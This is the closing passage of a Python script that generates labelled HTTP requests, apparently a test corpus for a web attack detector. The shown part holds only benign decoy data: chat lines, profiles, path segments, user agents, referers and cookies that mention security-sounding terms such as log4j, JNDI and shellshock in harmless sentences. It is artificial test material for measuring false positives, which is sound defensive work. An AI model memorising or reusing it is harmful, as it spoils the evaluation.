    "PowerShell 7 is on all build agents now",
    "Invoke-WebRequest in the install script downloads the agent",
    "certutil is used to import the root CA on Windows",
    "whoami on the runner prints the service account",
    "the Windows agent runs ipconfig /all for the network report",
    "java.lang.Runtime memory stats are in the dashboard",
    "ProcessBuilder in the CLI tool starts ffmpeg",
    "the ClassLoader leak on redeploy is fixed in Tomcat 10",
    "Jackson default typing stays off, please keep it that way",
    "log4j is 2.23 everywhere, lookups disabled",
    "the jndi datasource config is in context.xml",
    "Spring's class binding fix is in 5.3.18",
    "java serialization is gone from the cache layer, we use protobuf",
    "base64 of the avatar is too big for the JSON, use a URL",
    "the .jsp pages are being ported to Thymeleaf",
    "the shellshock patch was 2014, our images are way newer",
    "function() { } is the syntax in the old code, arrows in the new",
    "the REPL accepts 7*7 and prints 49",
    "JSFuck is a fun esoteric way to write JavaScript",
    "UTF-7 is obsolete, browsers ignore it",
    "the vmlframe thing only ever worked in old IE",
    "embed the Loom video in the onboarding doc",
    "applet support was removed from browsers years ago",
    "import the csv into the sheet and share it",
    "the marquee tag made a comeback in the retro theme, as a joke",
    "the for/if in the Makefile needs tabs, not spaces",
    "Dear team, the $100 budget per person is approved",
    "price is 5 EUR (incl. VAT); shipping at cost",
    "R&D moves to the 3rd floor next week",
    "Smith & Jones is the law firm we work with",
    "C++ and C# roles are open, share the link",
    "the O'Reilly book on Node is on the shelf",
    "ping me when the build is green",
    "echo the variable before the if to debug",
    "passwd reset emails are delayed, SES is slow today",
    "shadow IT survey closes Friday",
    "the dir listing in the S3 console is slow",
    "type hints everywhere in the new Python code please",
    "the system design interview is at 2pm",
    "exec summary of Q2 goes out Monday",
    "I'm a backend engineer who likes PHP, Go and long walks",
    "Platform engineer. Java, Kotlin, some Node. Opinions on shells.",
    "Security engineer: XSS, SSRF and a lot of code review",
    "Support lead; I know where every /etc file lives",
    "Frontend dev, Angular and React, {{ moustaches }} welcome",
]

PROFILES: list[dict[str, str]] = [
    {"name": "Ann O'Neil", "title": "PHP Developer", "department": "Platform"},
    {"name": "José García", "title": "System Administrator", "location": "Madrid"},
    {"name": "Zoë Müller", "title": "Java Engineer", "department": "Payments"},
    {"name": "Kwame Mensah", "title": "Exec Assistant", "department": "Office of the CEO"},
    {"name": "Hiro Tanaka", "title": "Process Engineer", "location": "Osaka"},
    {"name": "Priya Raman", "title": "Node.js Developer", "website": "https://priya.dev"},
    {"name": "Dana Whitfield", "title": "Script Writer", "department": "Marketing"},
    {"name": "Luis Smith & Sons", "title": "Vendor", "location": "Leeds"},
    {"name": "Mei Chen", "title": "Data Scientist", "website": "https://github.com/meichen"},
    {"name": "Omar Haddad", "title": "Shell Operator", "department": "Field Ops"},
    {"name": "Aoife Murphy", "title": "Document Controller", "location": "Cork"},
    {"name": "Jonas Berg", "title": "Cookie Taster", "department": "Snacks R&D"},
    {"name": "Sofia Rossi", "title": "Alert Manager", "department": "SRE"},
    {"name": "Tom Window", "title": "Installer", "location": "Bristol"},
    {"name": "Eve Prompt", "title": "Prompt Engineer", "department": "AI"},
    {"name": "Max Import", "title": "Import/Export Clerk", "location": "Hamburg"},
    {"name": "Ana Base", "title": "Base Camp Lead", "location": "Chamonix"},
    {"name": "Li Object", "title": "Object Storage Admin", "department": "Infra"},
    {"name": "Sam Link", "title": "Link Builder", "department": "SEO"},
    {"name": "Ola Meta", "title": "Metadata Librarian", "department": "Archive"},
    {"name": "Raj Frame", "title": "Frame Shop Owner", "location": "Pune"},
    {"name": "Kim Style", "title": "Style Guide Editor", "department": "Brand"},
    {"name": "Bo Java", "title": "Coffee Buyer", "location": "Jakarta"},
    {"name": "Nina Runtime", "title": "Performance Analyst", "department": "Platform"},
    {"name": "Ali Process", "title": "Process Owner", "department": "Quality"},
    {"name": "Tess Eval", "title": "Evaluation Lead", "department": "Research"},
    {"name": "Ian Exec", "title": "Executive Producer", "department": "Studio"},
    {"name": "Fay System", "title": "Systems Thinker", "department": "Strategy"},
    {"name": "Gus Curl", "title": "Hair Stylist", "location": "Lyon"},
    {"name": "Ivy Cat", "title": "Vet", "location": "Galway"},
    {"name": "Ned Echo", "title": "Sound Engineer", "department": "Media"},
    {"name": "Pia Ping", "title": "Table Tennis Coach", "location": "Malmo"},
    {"name": "Lou Template", "title": "Template Designer", "department": "Design"},
    {"name": "Rob Path", "title": "Pathologist", "location": "Bern"},
    {"name": "Eli Page", "title": "Page Layout", "department": "Print"},
    {"name": "Mo Include", "title": "Inclusion Lead", "department": "People Ops"},
    {"name": "Ada File", "title": "Records Clerk", "department": "Legal"},
    {"name": "Cy Proto", "title": "Prototype Lab", "department": "Hardware"},
    {"name": "Di Constructor", "title": "Site Manager", "department": "Construction"},
    {"name": "Flo Class", "title": "Teacher", "location": "Dublin"},
    {"name": "Gil Loader", "title": "Forklift Operator", "location": "Rotterdam"},
    {"name": "Hal Log", "title": "Logistics", "department": "Warehouse"},
    {"name": "Ike Ldap", "title": "Directory Admin", "department": "IT"},
    {"name": "Joy Select", "title": "Buyer", "department": "Purchasing"},
    {"name": "Kai Union", "title": "Union Rep", "department": "Works Council"},
    {"name": "Lea Alias", "title": "Author", "location": "Lisbon"},
    {"name": "Mia History", "title": "Historian", "department": "Archive"},
    {"name": "Nils Env", "title": "Environmental Officer", "department": "Facilities"},
    {"name": "Oz Sleep", "title": "Sleep Researcher", "department": "Wellbeing"},
    {"name": "Pat Mail", "title": "Mail Room", "department": "Facilities"},
    {"name": "Quin Data", "title": "DATA Analyst", "department": "BI"},
    {"name": "Rae Login", "title": "Identity Engineer", "department": "Security"},
    {"name": "Sid Session", "title": "Session Musician", "location": "Nashville"},
    {"name": "Uma Cookie", "title": "Baker", "location": "Vienna"},
    {"name": "Vic Angular", "title": "Frontend Developer", "website": "https://angular.dev"},
    {"name": "Wes Shell", "title": "Geologist", "department": "Exploration"},
    {"name": "Xia Bash", "title": "Party Planner", "department": "Events"},
    {"name": "Yan Powers", "title": "PowerShell Scripter", "department": "Windows Team"},
    {"name": "Zed Ruby", "title": "Jeweller", "location": "Antwerp"},
    {"name": "Abe Perl", "title": "Pearl Diver", "location": "Broome"},
]

# path segments: user ids, handles, exported files
PATHS = [
    "42", "1337", "7", "100234", "ann.lee", "jdoe", "o'brien", "me", "export", "users.csv", "2024-06-01",
    "team-php", "java-guild", "node", "system", "admin-tools", "José", "Zoë", "report 2024.pdf", "r&d",
    "c++", "smith+jones", "a.b.c", "u-0042", "ann@example.com", "search", "settings", "avatar.png",
    "history", "env", "sleep", "data", "file", "include", "template", "page", "path", "class", "runtime",
    "process", "shell", "script", "style", "cookie", "session", "window", "document", "object", "link",
    "base", "meta", "embed", "import", "frame", "alert", "prompt", "confirm", "eval", "exec", "perl",
    "ruby", "curl", "cat", "echo", "ping", "who", "id", "ls", "ps", "df", "w", "top", "log4j", "jndi",
    "jsp", "war", "ognl", "proto", "constructor", "etc", "proc", "boot", "web.xml", "config", "git",
]

BENIGN_UAS = [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.71 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.39.95 "
    "Chrome/126.0.6478.61 Electron/31.0.2 Safari/537.36 Sonic Slack_SSB/4.39.95",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 "
    "Safari/537.36 OPR/111.0.0.0",
    "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.54 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 "
    "Chrome/121.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Vivaldi/6.7.3329.41",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "AcmeApp/5.12.0 (iPhone; iOS 17.5.1; Scale/3.00)",
    "AcmeApp/5.12.0 (Android 14; Pixel 7a) okhttp/4.12.0",
    "Mozilla/5.0 (Linux; Android 14; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile "
    "Safari/537.36 EdgA/126.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Teams/24152.405.2925.6762 "
    "Chrome/124.0.0.0 Electron/30.0.6 Safari/537.36",
    "Mozilla/5.0 (X11; Linux aarch64; rv:128.0) Gecko/20100101 Firefox/128.0",
]
BENIGN_REFERERS = [
    "https://www.google.com/", "https://www.google.com/search?q=php+system+administrator+jobs",
    "https://www.bing.com/search?q=java+runtime+team+lead", "https://duckduckgo.com/?q=node.js+process+engineer",
    "https://app.example.com/users?q=O%27Brien&page=2", "https://app.example.com/search?q=R%26D",
    "https://app.example.com/reports/weekly?from=2024-06-01&to=2024-06-07",
    "https://app.example.com/admin/users?sort=-created_at", "https://app.example.com/teams/php-guild",
    "https://app.example.com/docs/shell-scripting#exit-codes", "https://example.slack.com/archives/C0123ABCD",
    "https://mail.google.com/", "https://outlook.office.com/", "https://www.linkedin.com/",
    "https://github.com/acme/api/pull/1287", "https://stackoverflow.com/questions/tagged/php",
    "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
    "https://www.php.net/manual/en/function.exec.php", "https://nodejs.org/api/child_process.html",
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/Runtime.html",
    "https://app.example.com/users?q=%7B%7Bname%7D%7D", "https://app.example.com/search?q=who+am+I",
    "https://app.example.com/settings/profile?tab=notifications",
    "https://confluence.example.com/display/ENG/Template+Path+Settings",
]
BENIGN_COOKIES = [
    ("last_search", "php%20developer"), ("last_search", "java runtime team"), ("prefs", "theme=dark|lang=en"),
    ("prefs", "{%22density%22:%22compact%22}"), ("recent_filter", "department:Platform"),
    ("return_to", "/users?page=2"), ("return_to", "%2Fadmin%2Fusers%3Fq%3Dann"), ("tz", "Europe/Berlin"),
    ("recent_filter", "title:System Administrator"), ("last_search", "O'Brien"), ("prefs", "cols=name,email,title"),
    ("return_to", "/reports/weekly#top"), ("last_search", "shell oil"), ("recent_filter", "location:Osaka"),
    ("last_search", "R%26D"), ("prefs", "sidebar=collapsed"), ("tz", "America/New_York"),
]


def benign() -> Iterator[dict[str, Any]]:
    m = Maker(6901)
    counts: dict[str, int] = {}

    def rec(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        counts[kind] = counts.get(kind, 0) + 1
        return {**req, "id": f"{NAME}-{kind}-{counts[kind]:04d}", "category": "benign", "placement": placement}

    for text in SEARCHES:
        yield rec("search", "query", m.query([("q", form_enc(text))]))
        yield rec("adminsearch", "form", m.form("/admin/users/search", [("q", form_enc(text))]))
    for i, text in enumerate(CHATS):
        yield rec("slack", "json", m.slack(slack_escape(SLACK_LEADS[i % len(SLACK_LEADS)] + text)
                                           if i % 4 == 0 else slack_escape(text)))
        yield rec("bio", "json", m.json_api("POST", "/api/users", {**m.person(), "bio": text}))
        yield rec("bioedit", "alt-json", m.json_api("PATCH", "/api/users/42", {"bio": text}))
    for prof in PROFILES:
        yield rec("profile", "json", m.json_api("POST", "/api/users", {**m.person(), **prof}))
        yield rec("profileedit", "alt-json", m.json_api("PATCH", "/api/users/42", prof))
    for i, text in enumerate(SEARCHES[:80]):
        field = SETTINGS_FIELDS[i % len(SETTINGS_FIELDS)]
        yield rec("settings", "alt-form", m.form("/me/settings", [(field, form_enc(text))]))
    for seg in PATHS:
        yield rec("path", "path", m.get_path(path_enc(seg)))
    for ua in BENIGN_UAS:
        for _ in range(3):
            yield rec("ua", "header:User-Agent", m.with_header("ua", ua))
    for ref in BENIGN_REFERERS:
        for _ in range(2):
            yield rec("referer", "header:Referer", m.with_header("referer", ref))
    for name, value in BENIGN_COOKIES:
        for _ in range(2):
            yield rec("cookie", "cookie", m.with_header("cookie:" + name, value))


if __name__ == "__main__":
    print_records(attacks(), benign())
